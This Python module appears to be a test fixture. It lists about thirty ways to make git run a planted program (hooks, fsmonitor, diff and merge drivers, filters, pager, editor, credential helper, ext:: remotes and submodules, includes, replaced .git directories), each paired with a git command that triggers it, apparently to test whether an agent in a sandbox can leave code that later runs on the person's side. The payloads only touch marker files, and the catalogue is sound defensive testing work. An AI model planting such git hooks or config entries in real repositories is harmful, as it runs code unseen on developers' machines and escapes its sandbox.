"""Ways to have git run a program, each with the plain git command that shows it to be live.

The scripts run at the top of a work tree: of an agent's inside its sandbox, or of the person's.
What they leave runs `touch $marks/NAME`, and `$marks` is a folder that only the host has.
"""

from __future__ import annotations

from dataclasses import dataclass

BASE = r"""
seq 30 | tee file a.diff a.conv a.merge a.filter > a.process
printf '*.diff diff=p\n*.conv diff=q\n*.merge merge=p\n*.filter filter=p\n*.process filter=q\n' \
    > .gitattributes
"""
"""A project whose files name drivers, as many do; which programs those are, nobody has said."""

PRELUDE = r"""
dir=$(git rev-parse --absolute-git-dir)
mkdir -p "$dir/hooks" .poison
mark() { echo "touch $marks/$1 2> /dev/null; true"; }
tool() {
    printf '#!/bin/sh\n%s\n%s\n' "$(mark $1)" "$2" > .poison/$1
    chmod +x .poison/$1
    echo "$PWD/.poison/$1"
}
hook() { printf '#!/bin/sh\n%s\n' "$(mark $1)" > "$2"; chmod +x "$2"; }
"""

HOOKS = (
    "applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit prepare-commit-msg "
    "commit-msg post-commit pre-rebase post-checkout post-merge pre-push pre-receive update "
    "proc-receive post-receive post-update reference-transaction push-to-checkout pre-auto-gc "
    "post-rewrite sendemail-validate fsmonitor-watchman post-index-change"
)


@dataclass(frozen=True, slots=True)
class Poison:
    """`script` plants it, `control` is the person falling for it."""

    script: str
    control: str


def setting(key: str, name: str, control: str) -> Poison:
    return Poison(f'git config {key} "$(mark {name})"', control)


def program(key: str, name: str, control: str, then: str = "") -> Poison:
    return Poison(f"git config {key} \"$(tool {name} '{then}')\"", control)


CHANGE = "sed -i 's/^2$/two/' file a.*; {}; git checkout -q ."
ASKED = r"printf 'protocol=https\nhost=h.test\n\n' | git credential fill"
MERGE = (
    "git checkout -qb left; echo 1 >> a.merge; git commit -qam left; git checkout -qb right HEAD~; "
    "echo 2 >> a.merge; git commit -qam right; git merge left"
)

PROGRAMS = {
    "hooks": Poison(
        f'for each in {HOOKS}; do hook hooks "$dir/hooks/$each"; done',
        "git update-ref refs/heads/control HEAD",
    ),
    "monitor": setting("core.fsmonitor", "monitor", "git status"),
    "external": program("diff.external", "external", CHANGE.format("git diff file")),
    "driver": setting("diff.p.command", "driver", CHANGE.format("git diff a.diff")),
    "textconv": program("diff.q.textconv", "textconv", "git log -p", 'cat "$1"'),
    "clean": program("filter.p.clean", "clean", "touch a.filter; git add a.filter", "cat"),
    "smudge": program("filter.p.smudge", "smudge", "rm a.filter; git checkout a.filter", "cat"),
    "merge": program("merge.p.driver", "merge", MERGE, "exit 1"),
    "sign": Poison(
        'git config gpg.program "$(tool sign)"; git config commit.gpgSign true',
        "git commit --allow-empty -m signed",
    ),
    "ssh": setting("core.sshCommand", "ssh", "git fetch ssh://h.test/x"),
    "proxy": program("core.gitProxy", "proxy", "git fetch git://h.test/x"),
    "fetch": Poison(
        'git config remote.evil.url "ext::$(tool fetch)"; git config protocol.ext.allow always; '
        "git config remote.evil.fetch +refs/heads/*:refs/remotes/evil/*",
        "git fetch evil",
    ),
    "uploadpack": Poison(
        'git config remote.other.url "$PWD"; '
        'git config remote.other.uploadpack "$(tool uploadpack)"',
        "git fetch other",
    ),
    "credential": Poison('git config credential.helper "!$(tool credential)"', ASKED),
    "password": program("core.askPass", "password", ASKED),
    "pager": program("core.pager", "pager", "TERM=xterm script -qec 'git log' /dev/null"),
    "editor": program("core.editor", "editor", "git commit --amend"),
    "sequence": program("sequence.editor", "sequence", "git rebase -i --root"),
    "alias": Poison('git config alias.evil "!$(tool alias)"', "git evil"),
    "trailer": program(
        "trailer.evil.command", "trailer", "echo x | git interpret-trailers --trailer evil=x"
    ),
    "archive": setting("tar.evil.command", "archive", "git archive --format=evil HEAD"),
    "difftool": Poison(
        'git config difftool.evil.cmd "$(tool difftool)"; git config diff.tool evil',
        CHANGE.format("git difftool -y file"),
    ),
    "alternate": Poison(
        'git init -q --bare "$dir/alternate"; echo "$dir/alternate/objects" >> '
        '"$dir/objects/info/alternates"; git config core.alternateRefsCommand "$(mark alternate)"',
        "git init -q ../second; git -C ../second commit -q --allow-empty -m x; "
        "git fetch -q ../second",
    ),
}
FILES = {
    "included": Poison(
        'git config --file "$dir/more" core.fsmonitor "$(mark included)"; '
        "git config include.path more",
        "git status",
    ),
    "folder": Poison(
        "mkdir -p .poison/hooks; for each in "
        f"{HOOKS}; do hook folder .poison/hooks/$each; done; "
        'git config core.hooksPath "$PWD/.poison/hooks"',
        "git read-tree HEAD",
    ),
    "worktree": Poison(
        "git config extensions.worktreeConfig true; "
        'git config --worktree diff.external "$(tool worktree)"',
        CHANGE.format("git diff file"),
    ),
    "conditional": Poison(
        'git config --file "$dir/some" diff.q.textconv "$(tool conditional)"; '
        "git config 'includeIf.gitdir:**.path' some",
        "git log -p",
    ),
    "process": program("filter.q.process", "process", "rm a.process; git checkout a.process"),
}
EVIL = (
    'git init -q {0}; git -C {0} config core.fsmonitor "$(mark {1})"; '
    "hook {1} {0}/.git/hooks/post-index-change; cp file {0}; git -C {0} add file; "
    "git -C {0} -c core.fsmonitor= -c user.name=x -c user.email=x@example.org commit -qm nested; "
)
TREE = {
    "nested": Poison(EVIL.format("nested", "nested"), "git -C nested status"),
    "embedded": Poison(
        EVIL.format("embedded", "embedded")
        + "mv embedded/.git bare; git -C bare config core.worktree ..; rm -r embedded",
        "cd bare; git status",
    ),
    "submodule": Poison(
        'printf \'[submodule "s"]\\n\\tpath = s\\n\\turl = ext::%s\\n\' "$(tool submodule)" '
        "> .gitmodules; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),s; "
        "git add .gitmodules; git commit -qm modules",
        "git -c protocol.ext.allow=always submodule update --init",
    ),
    "lfsconfig": Poison(
        'git config --file .lfsconfig core.fsmonitor "$(mark lfsconfig)"',
        'git -c include.path="$PWD/.lfsconfig" status',
    ),
    "replaced": Poison(
        EVIL.format("evil", "replaced")
        + 'mv .git .gone && echo "gitdir: $PWD/evil/.git" > .git; true',
        "git status",
    ),
}
# Each of these also leaves the agent without a sound repository.
BREAKING = {
    "common": Poison(
        EVIL.format("evil", "common") + 'echo "$PWD/evil/.git" > "$dir/commondir"', "git status"
    ),
    "linked": Poison(
        EVIL.format("evil", "linked") + 'rm "$dir/config"; ln -s "$PWD/evil/.git/config" "$dir"',
        "git status",
    ),
    "index": Poison(
        'git config core.fsmonitor "$(mark index)"; git update-index --fsmonitor; '
        'printf x | dd of="$dir/index" bs=1 seek=60 conv=notrunc 2> /dev/null',
        "git status",
    ),
    "work-tree": Poison(
        'git config core.worktree "$marks"; git config core.fsmonitor "$(mark work-tree)"',
        "git status",
    ),
}
GROUPS = {"programs": PROGRAMS, "files": FILES, "tree": TREE}
ALL = PROGRAMS | FILES | TREE | BREAKING


def planted(marks: object, *poisons: Poison) -> str:
    """A script that plants them, one after the other."""
    return "\n".join((f"marks={marks}", PRELUDE, *(each.script for each in poisons)))
